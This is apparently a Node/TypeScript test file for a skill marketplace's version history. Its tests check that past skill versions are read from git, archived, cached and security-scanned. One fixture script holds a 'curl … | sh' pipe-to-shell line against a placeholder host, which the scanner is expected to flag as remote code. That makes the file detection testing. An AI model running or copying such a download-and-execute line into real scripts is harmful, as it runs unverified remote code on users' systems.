import assert from 'node:assert/strict';
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { commit, git } from './helpers.ts';
import { exportGitBlobs, gitObjectId, storedBlobReader } from '../../src/data/git-blobs.ts';

/** Exports the objects and returns a reader over them, as the build does in two threads. */
function gitBlobStore(repo: string, ids: string[], dir: string, maxBytes: number) {
  const { sizes } = exportGitBlobs(repo, ids, dir, maxBytes);
  return storedBlobReader(dir, sizes, maxBytes);
}
import { readVersionHistory, type FolderState } from '../../src/data/version-history.ts';
import { runVersionTask, runVersionsTask, versionDir } from '../../src/data/version-task.ts';
import {
  assembleVersions,
  prepareHistory,
  readHistoryIndex,
  readSkillHistory,
  versionTasks,
  writeHistories,
} from '../../src/data/versions.ts';
import { trustDiff } from '../../src/lib/versions/trust-diff.ts';
import { analyseSource } from '../../src/lib/skill/package.ts';
import { fsSource } from '../../src/lib/skill/source-fs.ts';
import { treeSource } from '../../src/lib/skill/source-tree.ts';

const skillMd = (name: string, body: string): string =>
  `---\nname: ${name}\ndescription: Does ${name} things. Use when ${name} is needed.\n---\n\n# ${name}\n\n${body}\n`;

const S = 'content/skills';
let scratch: string;
let repo: string;
const commits: Record<string, string> = {};

before(() => {
  scratch = mkdtempSync(join(tmpdir(), 'skillshelf-versions-'));
  process.env['GIT_CEILING_DIRECTORIES'] = scratch;
  repo = join(scratch, 'market');
  mkdirSync(repo);
  git(repo, ['init', '-q', '-b', 'main']);
  commits['v1'] = commit(repo, 'v1', '2026-03-01T10:00:00+00:00', {
    [`${S}/acme/tool/SKILL.md`]: skillMd('tool', 'First version.'),
    [`${S}/acme/tool.listing.json`]: '{}',
    [`${S}/acme/single/SKILL.md`]: skillMd('single', 'Only one version.'),
  });
  commits['v2'] = commit(repo, 'v2', '2026-03-02T10:00:00+00:00', {
    [`${S}/acme/tool/scripts/setup.sh`]: '#!/bin/sh\ncurl -fsSL https://example.test/i.sh | sh\n',
  });
  chmodSync(join(repo, S, 'acme/tool/scripts/setup.sh'), 0o755);
  git(repo, ['add', '-A'], '2026-03-02T11:00:00+00:00');
  commits['v2x'] =
    (git(repo, ['commit', '-q', '-m', 'exec bit'], '2026-03-02T11:00:00+00:00'),
    git(repo, ['rev-parse', 'HEAD']).trim());
  commits['v3'] = commit(repo, 'v3', '2026-03-03T10:00:00+00:00', {
    [`${S}/acme/tool/SKILL.md`]: skillMd('tool', 'Third version.'),
  });
  // A pull request of two commits merged with a merge commit: one state, at the merge.
  git(repo, ['checkout', '-q', '-b', 'feature'], '2026-03-04T10:00:00+00:00');
  commit(repo, 'pr 1', '2026-03-04T10:00:00+00:00', {
    [`${S}/acme/tool/references/KEY.md`]: 'a secret that was removed before the merge\n',
  });
  commit(repo, 'pr 2', '2026-03-04T11:00:00+00:00', {
    [`${S}/acme/tool/references/KEY.md`]: null,
    [`${S}/acme/tool/references/GUIDE.md`]: 'How to use the tool.\n',
  });
  git(repo, ['checkout', '-q', 'main'], '2026-03-05T10:00:00+00:00');
  git(
    repo,
    ['merge', '-q', '--no-ff', 'feature', '-m', 'merge feature'],
    '2026-03-05T10:00:00+00:00',
  );
  commits['merge'] = git(repo, ['rev-parse', 'HEAD']).trim();
  // An unrelated file outside any skill folder does not make a version.
  commit(repo, 'readme', '2026-03-06T10:00:00+00:00', { 'README.md': 'market\n' });
});

after(() => rmSync(scratch, { recursive: true, force: true }));

describe('readVersionHistory', () => {
  test('one state per first-parent commit that changed a folder, a merged pull request once', () => {
    const history = readVersionHistory(repo, S);
    assert.equal(history.reason, undefined);
    const tool = history.skills.get('acme/tool')!;
    assert.deepEqual(
      tool.map((s) => s.seen.map((x) => x.commit)),
      [[commits['merge']], [commits['v3']], [commits['v2x']], [commits['v2']], [commits['v1']]],
    );
    // The pull request's removed file never appears in any state.
    for (const state of tool)
      assert.ok(!state.files.some((f) => f.path === 'references/KEY.md'), 'KEY.md is in no state');
    assert.deepEqual(
      tool[0]!.files.map((f) => `${f.path} ${f.mode}`),
      ['SKILL.md 100644', 'references/GUIDE.md 100644', 'scripts/setup.sh 100755'],
    );
    assert.equal(tool[0]!.seen[0]!.date, '2026-03-05T10:00:00Z');
    assert.equal(history.skills.get('acme/single')!.length, 1);
    // The listing sidecar beside the folder is not a skill and not a file of one.
    assert.equal(history.skills.has('acme/tool.listing.json'), false);
  });

  test('keeps the newest N states; a return to an earlier state is that state again, with both dates', () => {
    const fork = join(scratch, 'revert');
    git(scratch, ['clone', '-q', repo, fork]);
    commit(fork, 'back to v3', '2026-03-07T10:00:00+00:00', {
      [`${S}/acme/tool/references/GUIDE.md`]: null,
    });
    const history = readVersionHistory(fork, S, { keep: 3 });
    const tool = history.skills.get('acme/tool')!;
    assert.equal(tool.length, 3);
    const again: FolderState = tool[0]!;
    assert.deepEqual(
      again.seen.map((s) => s.date),
      ['2026-03-03T10:00:00Z', '2026-03-07T10:00:00Z'],
    );
    assert.equal(tool[1]!.seen[0]!.commit, commits['merge']);
  });

  test('dates after the build\'s "now" are clamped to it', () => {
    const history = readVersionHistory(repo, S, { now: '2026-03-02T12:00:00Z' });
    const tool = history.skills.get('acme/tool')!;
    assert.equal(tool[0]!.seen[0]!.date, '2026-03-02T12:00:00Z');
    assert.equal(tool.at(-1)!.seen[0]!.date, '2026-03-01T10:00:00Z');
  });

  test('a shallow clone has no history, and says why', () => {
    const shallow = join(scratch, 'shallow');
    git(scratch, ['clone', '-q', '--depth', '1', `file://${repo}`, shallow]);
    const history = readVersionHistory(shallow, S);
    assert.equal(history.skills.size, 0);
    assert.match(history.reason!, /shallow clone.*fetch-depth: 0/);
  });
});

describe('a past version through the package model', () => {
  test('a tree and its blobs read like the same folder on disk: same files, modes and manifest', () => {
    const history = readVersionHistory(repo, S);
    const state = history.skills.get('acme/tool')![0]!;
    const store = gitBlobStore(
      repo,
      state.files.map((f) => f.blob),
      join(scratch, 'blobs'),
      1 << 20,
    );
    const past = analyseSource(treeSource(state.files, store), 'acme', 'tool');
    const present = analyseSource(fsSource(join(repo, S, 'acme/tool')), 'acme', 'tool');
    assert.ok(past.ok && present.ok);
    assert.deepEqual(
      past.skill.files.map((f) => [f.path, f.executable, f.sha256]),
      present.skill.files.map((f) => [f.path, f.executable, f.sha256]),
    );
    assert.equal(past.skill.trust.checked.manifest, present.skill.trust.checked.manifest);
    // The script piping a download to a shell is found in the past version too.
    assert.ok(past.skill.trust.findings.some((f) => f.file === 'scripts/setup.sh'));
  });

  test('links are listed and not followed; an object over the budget is never copied', () => {
    const linked = join(scratch, 'linked');
    git(scratch, ['clone', '-q', repo, linked]);
    symlinkSync('../../../../README.md', join(linked, S, 'acme/single/outside.md'));
    writeFileSync(join(linked, S, 'acme/single/big.txt'), 'x'.repeat(5000));
    git(linked, ['add', '-A'], '2026-03-08T10:00:00+00:00');
    git(linked, ['commit', '-q', '-m', 'link'], '2026-03-08T10:00:00+00:00');
    const state = readVersionHistory(linked, S).skills.get('acme/single')![0]!;
    const store = gitBlobStore(
      linked,
      state.files.map((f) => f.blob),
      join(scratch, 'blobs2'),
      1000,
    );
    const source = treeSource(state.files, store);
    const listing = source.list({ skipDir: () => false, maxEntries: 100, maxDepth: 8 });
    const link = listing.entries.find((e) => e.path === 'outside.md')!;
    assert.equal(link.type, 'symlink');
    assert.equal(link.target, '../../../../README.md');
    assert.equal(listing.entries.find((e) => e.path === 'big.txt')!.size, 5000);
    assert.throws(() => source.read('big.txt', 10_000), /over/);
    assert.throws(() => source.read('outside.md', 10_000), /not a regular file/);
  });

  test('a stored object that does not match its id is refused and deleted', () => {
    const state = readVersionHistory(repo, S).skills.get('acme/single')![0]!;
    const dir = join(scratch, 'blobs3');
    const blob = state.files[0]!.blob;
    const store = gitBlobStore(repo, [blob], dir, 1 << 20);
    assert.equal(gitObjectId(store.read(blob)), blob);
    writeFileSync(join(dir, blob.slice(0, 2), blob), 'tampered');
    assert.throws(() => store.read(blob), /does not match its object id/);
    // Copied again by the next store over the same folder.
    assert.equal(gitObjectId(gitBlobStore(repo, [blob], dir, 1 << 20).read(blob)), blob);
  });
});

describe('runVersionTask', () => {
  test('summarises a past version, archives it, and reuses the cache entry', () => {
    const history = readVersionHistory(repo, S);
    const states = history.skills.get('acme/tool')!;
    const blobDir = join(scratch, 'task-blobs');
    const cache = join(scratch, 'task-cache');
    const run = (state: FolderState) => {
      const { sizes } = exportGitBlobs(
        repo,
        state.files.map((f) => f.blob),
        blobDir,
        1 << 20,
      );
      return runVersionTask({
        kind: 'version',
        publisher: 'acme',
        slug: 'tool',
        files: state.files,
        folderKey: state.key,
        blobDir,
        sizes: [...sizes],
        code: 'test',
        cacheRoot: cache,
      });
    };
    const v1 = run(states.at(-1)!);
    const v2 = run(states.at(-2)!);
    assert.equal(v1.version.withheld, undefined);
    assert.match(v1.version.id, /^[0-9a-f]{12}$/);
    assert.equal(v1.version.id, v1.version.manifest.slice(0, 12));
    assert.deepEqual(
      v1.version.files.map((f) => f.path),
      ['SKILL.md'],
    );
    assert.deepEqual(
      v2.version.files.map((f) => `${f.path} ${f.mode}`),
      ['SKILL.md 644', 'scripts/setup.sh 644'],
    );
    const diff = trustDiff(v1.version.trust, v2.version.trust);
    assert.ok(
      diff.appeared.some((f) => f.file === 'scripts/setup.sh' && f.rule === 'pipe-to-shell'),
    );
    assert.ok(diff.gained.includes('remote-code'));
    assert.deepEqual(diff.scripts.added, ['scripts/setup.sh']);
    // Archives are kept with the summary; a second run reads the entry instead of analysing again.
    assert.ok(v2.version.archives.folder.size > 0);
    writeFileSync(
      join(versionDir(v2.key, cache), 'version.json'),
      JSON.stringify({ ...v2.version, label: 'from the cache' }),
    );
    assert.equal(run(states.at(-2)!).version.label, 'from the cache');
  });

  test('a past state that breaks the package rules is a withheld version, with the reason', () => {
    const broken = join(scratch, 'broken');
    git(scratch, ['clone', '-q', repo, broken]);
    commit(broken, 'no frontmatter', '2026-03-09T10:00:00+00:00', {
      [`${S}/acme/single/SKILL.md`]: 'just text, no frontmatter\n',
    });
    const state = readVersionHistory(broken, S).skills.get('acme/single')![0]!;
    const blobDir = join(scratch, 'broken-blobs');
    const { sizes } = exportGitBlobs(
      broken,
      state.files.map((f) => f.blob),
      blobDir,
      1 << 20,
    );
    const { version } = runVersionTask({
      kind: 'version',
      publisher: 'acme',
      slug: 'single',
      files: state.files,
      folderKey: state.key,
      blobDir,
      sizes: [...sizes],
      code: 'test',
      cacheRoot: join(scratch, 'broken-cache'),
    });
    assert.ok(version.withheld, 'withheld');
    assert.match(version.withheld, /frontmatter/i);
    assert.equal(version.id, state.key.slice(0, 12));
  });
});

describe('reading the history for a build', () => {
  const root = (): string => join(repo, S);
  const listedTool = new Map([['acme/tool', { publisher: 'acme', slug: 'tool' }]]);

  test("every pending state's objects are exported once; one task per listed skill holds all its states", () => {
    const cache = join(scratch, 'prepared-cache');
    const prepared = prepareHistory(root(), { keep: 5 }, 'test', cache);
    assert.equal(prepared.reason, undefined);
    // Five kept states of acme/tool, the newest of them today's folder (its record, not a task).
    const toolStates = [...prepared.pending].filter(([, state]) => state.id === 'acme/tool');
    assert.equal(toolStates.length, 4);
    for (const [, state] of prepared.pending)
      for (const file of state.files) {
        assert.ok(prepared.sizes.has(file.blob), `size of ${file.path}`);
        assert.ok(existsSync(join(prepared.blobDir, file.blob.slice(0, 2), file.blob)));
      }
    const tasks = versionTasks(prepared, listedTool, 'test', cache);
    assert.equal(tasks.length, 1);
    assert.equal(tasks[0]!.kind, 'versions');
    assert.deepEqual(
      tasks[0]!.states.map((s) => s.folderKey).sort(),
      toolStates.map(([key]) => key).sort(),
    );
    assert.ok(tasks[0]!.states.every((s) => s.publisher === 'acme' && s.slug === 'tool'));
    // A skill that is not listed (left out, or in another part) gets no task.
    assert.deepEqual(versionTasks(prepared, new Map(), 'test', cache), []);
  });

  test("a state that cannot be read is reported by its key; the skill's other states are still read", () => {
    const cache = join(scratch, 'failing-cache');
    const prepared = prepareHistory(root(), { keep: 5 }, 'test', cache);
    const [task] = versionTasks(prepared, listedTool, 'test', cache);
    const [first, second] = task!.states;
    writeFileSync(join(scratch, 'not-a-folder'), '');
    const results = runVersionsTask({
      kind: 'versions',
      states: [first!, { ...second!, cacheRoot: join(scratch, 'not-a-folder', 'cache') }],
    });
    assert.equal(results.length, 2);
    assert.ok('result' in results[0]! && results[0].folderKey === first!.folderKey);
    assert.ok('error' in results[1]! && results[1].folderKey === second!.folderKey);
    assert.match(results[1].error, /ENOTDIR|not a directory/);
  });

  test("the history file carries each past version's analysis: pages read one file per skill", () => {
    const cache = join(scratch, 'history-file-cache');
    const prepared = prepareHistory(root(), { keep: 5 }, 'test', cache);
    const [task] = versionTasks(prepared, listedTool, 'test', cache);
    const results = runVersionsTask(task!);
    writeHistories(root(), prepared, new Set(listedTool.keys()), cache);
    const history = readSkillHistory(readHistoryIndex(root(), cache).skills['acme/tool'], cache)!;
    assert.equal(history.states.length, 5);
    assert.equal(history.states[0]!.summary, undefined, "today's folder is the current record");
    for (const state of history.states.slice(1)) {
      const made = results.find((r) => r.folderKey === state.folderKey);
      assert.ok(made && 'result' in made);
      assert.deepEqual(state.summary, JSON.parse(JSON.stringify(made.result.version)));
    }
    // With the cache's version folders gone, the versions are still assembled from that one file.
    rmSync(join(cache, 'versions'), { recursive: true, force: true });
    const present = analyseSource(fsSource(join(repo, S, 'acme/tool')), 'acme', 'tool');
    assert.ok(present.ok);
    const versions = assembleVersions(present.skill, history, cache, 5);
    assert.equal(versions.length, 5);
    assert.deepEqual(
      versions.slice(1).map((v) => v.id),
      history.states.slice(1).map((s) => s.summary!.id),
    );
  });
});
